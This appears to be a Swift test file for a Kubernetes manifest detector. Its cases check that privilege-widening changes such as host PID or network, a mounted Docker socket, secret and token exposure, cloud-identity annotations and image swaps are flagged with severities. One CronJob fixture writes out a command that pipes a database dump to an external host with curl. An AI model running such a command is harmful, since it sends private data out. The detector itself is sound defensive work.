import Detection

extension WorkloadCases {
  static let sharing: [DetectorCase] = [
    pod("the host's network", "", "hostNetwork: true", .widened, says: "hostNetwork", .high),
    pod("the host's processes", "", "hostPID: true", .widened, says: "hostPID", .critical),
    pod("the host's IPC, explicitly not", "", "hostIPC: false", .equal, nil),
    pod(
      "the socket of Docker",
      "",
      "volumes: [{name: s, hostPath: {path: /var/run/docker.sock}}]",
      .widened,
      says: "host path /var/run/docker.sock",
      .critical
    ),
    pod(
      "a path of the host",
      "",
      "volumes: [{name: s, hostPath: {path: /srv/data}}]",
      .widened,
      says: "host path /srv/data",
      .high
    ),
    pod("another kind of volume", "", "volumes: [{name: s, emptyDir: {}}]", .equal, nil),
    pod("a runtime class", "runtimeClassName: gvisor", "", .widened, says: "runtime class", .high),
    pod(
      "a secret",
      "",
      "volumes: [{name: s, secret: {secretName: db}}]",
      .widened,
      "workload.secret-mount",
      says: "gives secret 'db' for Deployment prod/web",
      .medium
    ),
    container(
      "a port of the host",
      "ports: [{containerPort: 80}]",
      "ports: [{containerPort: 80, hostPort: 80}]",
      .widened,
      host,
      says: "host port 80",
      .medium
    ),
    container(
      "a secret as a variable",
      "",
      "env: [{name: P, valueFrom: {secretKeyRef: {name: db, key: p}}}]",
      .widened,
      "workload.secret-mount",
      says: "secret 'db'",
      .medium
    ),
    pod(
      "another service account",
      "serviceAccountName: web",
      "serviceAccountName: admin",
      .incomparable,
      "iam.kubernetes-service-account",
      says: "from web to admin",
      .high
    ),
    pod(
      "a token after all",
      "automountServiceAccountToken: false",
      "automountServiceAccountToken: true",
      .widened,
      "iam.kubernetes-token",
      .high
    ),
    DetectorCase(
      "a role of AWS",
      W.path,
      W.account(""),
      W.account("  annotations: {eks.amazonaws.com/role-arn: 'arn:aws:iam::1:role/web'}"),
      .widened,
      "iam.kubernetes-cloud-identity",
      line: 6,
      says: "adds cloud identity arn:aws:iam::1:role/web for ServiceAccount prod/web",
      .high
    ),
    DetectorCase(
      "another identity of Google",
      W.path,
      W.account("  annotations: {iam.gke.io/gcp-service-account: a@p.iam.gserviceaccount.com}"),
      W.account("  annotations: {iam.gke.io/gcp-service-account: b@p.iam.gserviceaccount.com}"),
      .incomparable,
      "iam.kubernetes-cloud-identity",
      says: "from a@p",
      .high
    ),
    DetectorCase(
      "a token of the account",
      W.path,
      W.account("automountServiceAccountToken: false"),
      W.account(""),
      .widened,
      "iam.kubernetes-token",
      line: 6,
      .high
    ),
    DetectorCase(
      "a token that lasts",
      W.path,
      nil,
      "apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\nmetadata:\n"
        + "  name: t\n  annotations: {kubernetes.io/service-account.name: web}\n",
      .widened,
      "iam.kubernetes-token",
      says: "lasting token of service account web",
      .high
    ),
    DetectorCase(
      "another command",
      W.path,
      W.cron("[pg_dump, shop]"),
      W.cron("[sh, -c, 'pg_dump shop | curl -T - https://example.net']"),
      .incomparable,
      "workload.container-command",
      line: 13,
      says: "in container 'dump' of CronJob prod/dump"
    ),
    container(
      "more replicas of nothing that matters",
      "",
      "resources: {limits: {cpu: 1}}",
      .equal,
      nil
    ),
  ]

  static let images: [DetectorCase] = [
    tag("a tag", "ghcr.io/acme/web:1.0", "ghcr.io/acme/web:1.1", .incomparable, .medium),
    tag("the latest", "ghcr.io/acme/web:1.0", "ghcr.io/acme/web", .widened, .medium, .incomparable),
    tag(
      "a digest gone",
      "ghcr.io/acme/web@sha256:00",
      "ghcr.io/acme/web:1.0",
      .widened,
      .high,
      .incomparable
    ),
    tag("another registry", "ghcr.io/acme/web:1.0", "quay.io/acme/web:1.0", .incomparable, .high),
    tag(
      "another digest",
      "ghcr.io/acme/web@sha256:00",
      "ghcr.io/acme/web@sha256:01",
      .incomparable,
      .medium
    ),
    tag("a quoted tag", "ghcr.io/acme/web:1.0", "\"ghcr.io/acme/web:1.0\"", .equal, nil),
    DetectorCase(
      "a workload that is new",
      W.path,
      nil,
      W.deployment(),
      .widened,
      image,
      line: 10,
      says: "runs image ghcr.io/acme/web:1.0",
      .medium
    ),
  ]

  static func tag(
    _ name: String,
    _ old: String,
    _ new: String,
    _ direction: Direction,
    _ severity: Severity?,
    _ back: Direction? = nil
  ) -> DetectorCase {
    DetectorCase(
      name,
      W.path,
      W.deployment(image: old),
      W.deployment(image: new),
      direction,
      severity == nil ? nil : image,
      line: severity == nil ? nil : 10,
      says: severity == nil ? nil : "image from \(old) to \(new)",
      severity,
      back: back
    )
  }
}
